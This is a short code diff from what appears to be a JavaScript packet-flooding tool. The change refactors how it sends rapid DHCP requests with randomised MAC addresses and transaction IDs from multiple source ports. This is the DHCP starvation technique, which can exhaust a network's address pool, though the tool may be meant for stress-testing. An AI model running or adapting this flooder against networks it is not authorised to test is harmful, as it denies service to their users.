@@ -8,9 +8,14 @@ const [port = '67', perS = '1000'] = words
 const sourcePorts = 16
 
 const host = Number(port) === dhcpPorts.server ? everybody : target.server
-flood({ host, port: Number(port) }, sourcePorts, Number(perS), () => {
-  const mac = `52:54:00:${randomBytes(3)
-    .toString('hex')
-    .replace(/(..)(?=.)/g, '$1:')}`
-  return dhcpQuestion(mac, randomBytes(4).readUInt32BE(0))
-})
+flood(
+  () => [{ host, port: Number(port) }],
+  sourcePorts,
+  Number(perS),
+  () => {
+    const mac = `52:54:00:${randomBytes(3)
+      .toString('hex')
+      .replace(/(..)(?=.)/g, '$1:')}`
+    return dhcpQuestion(mac, randomBytes(4).readUInt32BE(0))
+  },
+)
